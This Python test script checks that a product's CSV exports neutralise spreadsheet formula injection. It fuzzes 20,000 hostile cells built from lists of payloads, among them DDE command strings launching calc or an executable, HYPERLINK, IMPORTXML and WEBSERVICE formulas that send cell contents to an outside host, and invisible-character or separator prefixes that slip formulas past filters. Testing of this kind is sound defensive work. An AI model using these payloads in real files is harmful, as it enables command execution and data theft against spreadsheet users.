"""Whether a spreadsheet would run anything in a CSV file the product writes: 20,000 hostile cells, none may be live.

The reader that judges a cell knows nothing of the code that writes it: it takes away whatever some spreadsheet drops
from the front of a cell, reads wide signs as narrow ones, and calls live what then begins like a formula and is no
number.
"""

from __future__ import annotations

import csv
import io
import re
import sys
import tempfile
import time
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC
from pathlib import Path
from random import Random

from saidanddone.diagnosis.finding import Diagnosis
from saidanddone.diagnosis.nothing import nothing_yet
from saidanddone.diagnosis.views import Unit
from saidanddone.evidence.unreleased import Unreleased
from saidanddone.privacy.door import release
from saidanddone.privacy.permissions import Permissions
from saidanddone.report import spreadsheet
from saidanddone.store import notebook
from saidanddone.store.sheet import parse
from saidanddone.verbs.drafting import draft
from saidanddone.verbs.joining import Met

CELLS, SEED = 20_000, 20261122
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", "\r\n@", "﹦", "﹢")
BEFORE = (
    "", "", "", "", " ", "  ", "\t", "\r", "\n", "\ufeff", "\u200b", "\u2060", "\xa0", "\u3000", '"', '""', "'", "''",
    "\x00", "\x01", "\x1b", "\u202e", "’", "“", "`", "#", "a;", "a,", "a\t", "a|", 'a";', 'a",', "a\n", "a\r\n",
    'a"\r\n"',
)  # fmt: skip
BEHIND = (
    '1+1', 'HYPERLINK("http://example.org/?"&A1,"open")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "2+3", "A1", '"x"',
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")', "MSEXCEL|'\\..\\..\\x.exe'!''", "WEBSERVICE(A1)", "@SUM(1)",
    "", "1;=1+1", "1,=1+1", 'x","=1+1', "1\t=1+1", "1\n=1+1",
)  # fmt: skip


def hostile(chance: Random) -> str:
    """One cell as somebody would write it who wants it to run."""
    return chance.choice(BEFORE) + chance.choice(BEFORE) + chance.choice(SIGNS) + chance.choice(BEHIND)


def live(cell: str) -> bool:
    """Whether some spreadsheet would run a cell."""
    if cell.startswith(("\t", "\r", "\n")):
        return True
    shown = cell
    while shown and (shown[0] in '"“”' or unicodedata.category(shown[0]) in ("Cc", "Cf", "Zs", "Zl", "Zp")):
        shown = shown[1:]
    shown = unicodedata.normalize("NFKC", shown)
    if not shown.startswith(("=", "+", "-", "@")):
        return False
    return re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", shown) is None


def rows(text: str, separator: str) -> Iterator[list[str]]:
    """A file's rows, parted as a spreadsheet would that knows this separator."""
    yield from csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator)


def diagnosed(cells: list[str]) -> str:
    """``diagnose --csv``: leaders and teams called so, and a figure below zero that must stay a number."""
    names = {f"p-{place:05}": cell for place, cell in enumerate(cells[::2])}
    teams = [Unit(f"team:{cell}", "team", cell, cell, frozenset({"p-00000"}), 0, 1) for cell in cells[1::2]]
    people = [Unit(name, "person", name, None, frozenset({name}), 0, 1) for name in names]
    found = [nothing_yet(unit, "leader" if unit.kind == "person" else "team", 0.8) for unit in (*people, *teams)]
    found = [replace(one, trust=replace(one.trust, mean=-0.25, last_us=-1)) for one in found]
    before = Diagnosis(0, tuple(found), None, {}, (), (), "0", 0)
    permissions = Permissions(roster=True, leaders=frozenset(names), names=names)
    out = release(Unreleased(before), permissions=permissions, units=[*people, *teams])
    return spreadsheet.render(out)


def noted(cells: list[str], book: notebook.Book) -> str:
    """A notebook's file, a hundred rows at a time, each cell written by hand and then changed."""
    written = []
    for first in range(0, len(cells), 100):
        sheet = parse((",".join(book.columns) + "\n").encode(), book.file)
        for cell in cells[first : first + 100]:
            sheet = sheet.added(dict.fromkeys(book.columns[:3], cell))
            sheet = sheet.changed(sheet.entries[-1][0], {book.columns[3]: cell})
        written.append(sheet.to_bytes().decode("utf-8"))
    return "".join(written)


def drafted(cells: list[str]) -> str:
    """A roster drafted from what a tracker calls people and teams."""
    met = [Met("x.csv", "jira", f"p-{place}", cell, 1, cell, 0) for place, cell in enumerate(cells)]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "roster.csv"
        draft(path, met, UTC)
        return path.read_bytes().decode("utf-8")


def main() -> int:
    """Write them all, read them all; 1 if one is live or a number became text."""
    started, chance = time.perf_counter(), Random(SEED)
    cells = [hostile(chance) for _ in range(CELLS)]
    each = CELLS // 4
    files = {
        "diagnose --csv": (diagnosed(cells[:each]), ",;\t"),
        "notebook, ledger.csv": (noted(cells[each : 2 * each], notebook.LEDGER), ","),
        "notebook, moments.csv": (noted(cells[2 * each : 3 * each], notebook.MOMENTS), ","),
        "read --draft-roster": (drafted(cells[3 * each :]), ","),
    }
    unguarded = sum(live(cell) or any(live(part) for part in re.split("[,;\t\n\r]", cell)) for cell in cells)
    print(f"{CELLS:,} hostile cells, seed {SEED}; {unguarded:,} of them are live as they were typed.")
    alive, read = [], 0
    for name, (text, separators) in files.items():
        found = [cell for mark in separators for row in rows(text, mark) for cell in row]
        living = [cell for cell in found if live(cell)]
        alive += living
        read += len(found)
        print(f"  {name:24}{len(found):>9,} cells read, {len(living)} live")
    table = list(rows(files["diagnose --csv"][0], ","))
    mean, last = table[0].index("mean"), table[0].index("last_us")
    numbers = sum(row[mean] == "-0.25" and row[last] == "-1" for row in table[1:])
    print(f"  numbers below zero that stayed numbers: {numbers:,} of {len(table) - 1:,} rows")
    seconds = time.perf_counter() - started
    print(f"{len(alive)} live cells of {CELLS:,} ({read:,} cells read, {seconds:.0f} s)")
    for cell in alive[:10]:
        print("  live:", ascii(cell))
    return int(bool(alive) or numbers != len(table) - 1 or len(table) - 1 != each or unguarded < CELLS // 2)


if __name__ == "__main__":
    sys.exit(main())
